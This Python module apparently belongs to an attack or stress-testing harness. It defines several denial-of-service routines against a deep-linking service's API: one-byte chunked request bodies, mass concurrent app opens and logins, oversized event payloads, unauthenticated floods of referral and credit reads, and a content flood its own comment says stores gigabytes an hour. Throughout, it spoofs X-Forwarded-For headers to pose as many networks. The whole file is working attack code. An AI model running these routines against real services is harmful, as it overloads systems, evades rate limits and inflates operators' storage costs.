"""Costly calls of one network, or of few."""

import itertools

from attacks.registry import attack
from attacks.sending import IPHONE, of_network, rounds, waves
from traffic import Outcome, ask, pipeline, request


@attack
def bodies_of_tiny_chunks(target, until, number):
    """bodies of 100 KB in chunks of one byte, on twenty connections"""
    head = request("POST", "/v1/event", headers=of_network(number, 1)[0] | {"Transfer-Encoding": "chunked"})
    body = head.replace(b"Content-Length: 0\r\n", b"") + b"1\r\ng\r\n" * 100_000 + b"0\r\n\r\n"
    return waves(target, until, [body] * 20, pause=0)


@attack
def opens_beside_many_clicks(target, until, number):
    """200 opens at once from four addresses with 200 clicks each"""
    outcome = Outcome()
    senders = of_network(number, 4)
    for sender in senders:
        agents = [IPHONE.replace("17_0", version) for version in ("17_1_1", "17_1")]
        pipeline(target.port, [
            request("GET", f"{target.visit}?n={click}", headers=sender | {"User-Agent": agents[click % 2]}) for click in range(200)], outcome)
    start = {"branch_key": target.key, "os": "iOS", "os_version": "17.1.1", "sdk": "ios3.0.0"}
    outcome.add(waves(target, until, [
        request("POST", "/v1/open", start | {"hardware_id": f"{number}-{index}"}, sender)
        for sender in senders for index in range(target.at_once // 4)]))
    return outcome


@attack
def events_of_much_content(target, until, number):
    """200 events at once with a hundred pieces of content each, in 4 KB"""
    event = {"branch_key": target.key, "name": "VIEW_ITEMS", "content_items": [{"$canonical_identifier": f"{item}"} for item in range(100)]}
    return waves(target, until, [
        request("POST", "/v2/event/standard", event, sender) for sender in of_network(number, 4) for _ in range(target.at_once // 4)])


@attack
def new_content_of_many_networks(target, until, number):
    """events at once, of 500 networks, with a hundred new pieces of content each"""
    pieces = itertools.count()
    networks = [{"X-Forwarded-For": f"10.{number}.{network % 256}.7"} for network in range(min(256, 3 * target.at_once // 2))]

    def event(sender):
        items = [{"$canonical_identifier": f"{number} {next(pieces)}"} for _ in range(100)]
        body = {"branch_key": target.key, "name": "VIEW_ITEMS", "content_items": items}
        return [request("POST", "/v2/event/standard", body, sender)]

    # Without the pause they store as much as the budget of the key allows: gigabytes in an hour.
    return rounds(target, until, lambda: [event(sender) for sender in networks], pause=1)


def many_members(target, number):
    """The URL of a link with as many members as a link may have."""
    data = {f"member{index}": "g" for index in range(1000)}
    pipeline(target.port, [
        request("POST", "/v1/url", {"branch_key": target.key, "alias": f"members{number}", "data": data}, of_network(number, 1)[0])],
        Outcome())
    return target.names["URL"].rsplit("/", 1)[0] + f"/members{number}"


@attack
def opens_of_many_members(target, until, number):
    """200 opens at once by a link with a thousand members"""
    start = {"branch_key": target.key, "os": "iOS", "sdk": "ios3.0.0", "universal_link_url": many_members(target, number)}
    return waves(target, until, [
        request("POST", "/v1/open", start | {"hardware_id": f"{number}-{index}"}, sender)
        for sender in of_network(number, 4) for index in range(target.at_once // 4)])


@attack
def logins_of_many_members(target, until, number):
    """200 logins at once of a user whose session has a thousand members"""
    start = {
        "branch_key": target.key, "os": "iOS", "sdk": "ios3.0.0", "hardware_id": f"{number}", "is_hardware_id_real": True,
        "universal_link_url": many_members(target, number)}
    tokens = ask(target.port, "POST", "/v1/install", start)
    login = {"branch_key": target.key, "identity": f"ann{number}"} | {
        name: tokens[name] for name in ("randomized_device_token", "randomized_bundle_token", "session_id")}
    return waves(target, until, [
        request("POST", "/v1/profile", login, sender) for sender in of_network(number, 4) for _ in range(target.at_once // 4)])


@attack
def reads_without_a_key(target, until, number):
    """20,000 referrals of a user, balances and numbers of browsers, asked for at once on 380 connections of six networks, without a key"""
    senders = [{"X-Forwarded-For": f"198.18.{10 * number + network}.7"} for network in range(3)]
    paths = [f"/v1/referrals/{target.referrer}", f"/v1/credits/{target.referrer}", f"/_r?branch_key={target.key}"]
    requests = [[request("GET", path, headers=sender)] for sender in senders for path in paths]
    return rounds(target, until, requests * (target.at_once * 8 // 75))


@attack
def content_of_many_members(target, until, number):
    """events of 400 KB at once, of six networks, with a hundred pieces of content of 400 members each"""
    items = [{"$canonical_identifier": f"{item}"} | {f"m{member}": 1 for member in range(400)} for item in range(100)]
    event = {"branch_key": target.key, "name": "VIEW_ITEMS", "content_items": items}
    senders = [{"X-Forwarded-For": f"198.18.{10 * number + network}.7"} for network in range(3)]
    return waves(target, until, [
        request("POST", "/v2/event/standard", event, sender) for sender in senders for _ in range(target.at_once // 25)])
